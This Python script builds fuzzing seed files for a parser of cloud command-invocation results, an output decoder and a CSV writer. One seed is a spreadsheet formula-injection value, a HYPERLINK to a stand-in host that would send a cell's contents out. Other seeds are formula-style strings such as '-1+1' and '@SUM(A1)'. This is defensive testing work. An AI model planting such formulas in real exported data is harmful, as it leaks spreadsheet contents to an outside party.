#!/usr/bin/env python3
"""Writes the seed inputs of the fuzz corpora from the field cases (../shared/cases).

Run from the repository root: fuzz/make-seeds.py [path to the cases folder].
Seeds are named seed-*; files that fuzzing added are named by their SHA-1.
"""
import base64
import json
import pathlib
import shutil
import struct
import sys

root = pathlib.Path(__file__).resolve().parent
cases = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else root.parent.parent / "shared" / "cases")
corpus = root / "corpus"

# The output bytes of field cases 1, 2, 8, 9, 10 and 11.
line = "第%d行：正在部署，执行成功\r\n"
printed = "".join(line % n for n in range(1, 2400)).encode("utf-8")
head, cap = 6000, 24 * 1024
outputs = {
    "case01-gbk": bytes.fromhex("C4E3BAC30D0A"),
    "case02-24kb-cut": printed[:head] + printed[len(printed) - (cap - head):],
    "case08-formula": b'=HYPERLINK("http://example.invalid/?q="&A1,"ok")\r\nsecond line',
    "case09-quotes": 'line1\r\nline2 "quoted", comma\n执行失败'.encode("utf-8"),
    "case10-colour": b"\x1b[31mERROR\x1b[0m done\r\n",
    "case11-running": b"",
}


def write(harness, name, data):
    folder = corpus / harness
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"seed-{name}").write_bytes(data)


def result(invoke, output, **fields):
    entry = {"InvokeId": invoke, "InstanceId": "i-bp1seed", "CommandId": "c-seed",
             "InvocationStatus": "Success", "InvokeRecordStatus": "Finished",
             "Output": base64.b64encode(output).decode(), "Dropped": 0, "ExitCode": 0,
             "ErrorCode": "", "ErrorInfo": "", "StartTime": "2026-12-01T10:00:00Z",
             "FinishedTime": "2026-12-01T10:00:03Z", "Repeats": 1,
             "Tags": {"Tag": [{"TagKey": "env", "TagValue": "prod"}]}}
    entry.update(fields)
    return entry


def page(results, token=""):
    return json.dumps({"RequestId": "SEED", "Invocation": {
        "InvocationResults": {"InvocationResult": results}, "NextToken": token,
        "PageNumber": 1, "PageSize": 50, "TotalCount": len(results)}}).encode()


for name in ("published-response.json", "published-error-malformed.json"):
    shutil.copy(cases / name, corpus / "resultparser" / f"seed-{name}")
write("resultparser", "cases", page([
    result("t-1", outputs["case01-gbk"]),
    result("t-2", outputs["case02-24kb-cut"][:600], Dropped=31000,
           OssOutputUri="oss://bucket/out.txt"),
    result("t-8", outputs["case08-formula"], ErrorInfo="-1+1", ExitCode=-1,
           InvocationStatus="Failed"),
    result("t-9", outputs["case09-quotes"], ExitCode=3221225477),
    result("t-10", outputs["case10-colour"]),
    result("t-11", b"", InvocationStatus="Running", FinishedTime=""),
], token="AAAAAdDW+BF2/x=="))
write("resultparser", "empty-page", page([]))

for name, data in outputs.items():
    write("outputdecoder", name, data)

# CSV writer inputs: options byte, then operations (see fuzz_csvwriter.cpp).
def text(value):
    data = value.encode("utf-8")
    return bytes([0]) + struct.pack("<H", len(data)) + data

def number(value):
    return bytes([2]) + struct.pack("<q", value)

END = bytes([4])
write("csvwriter", "case08", bytes([0]) + text(outputs["case08-formula"].decode()) + text("-1+1")
      + number(-1) + END)
write("csvwriter", "case09-semicolon-bom", bytes([1 | 4]) + text(outputs["case09-quotes"].decode())
      + bytes([3]) + END + text("执行失败") + END)
write("csvwriter", "case10-tab", bytes([2]) + text("ERROR done\n") + text("\tindented") + END
      + bytes([5]) + text("@SUM(A1)") + END)
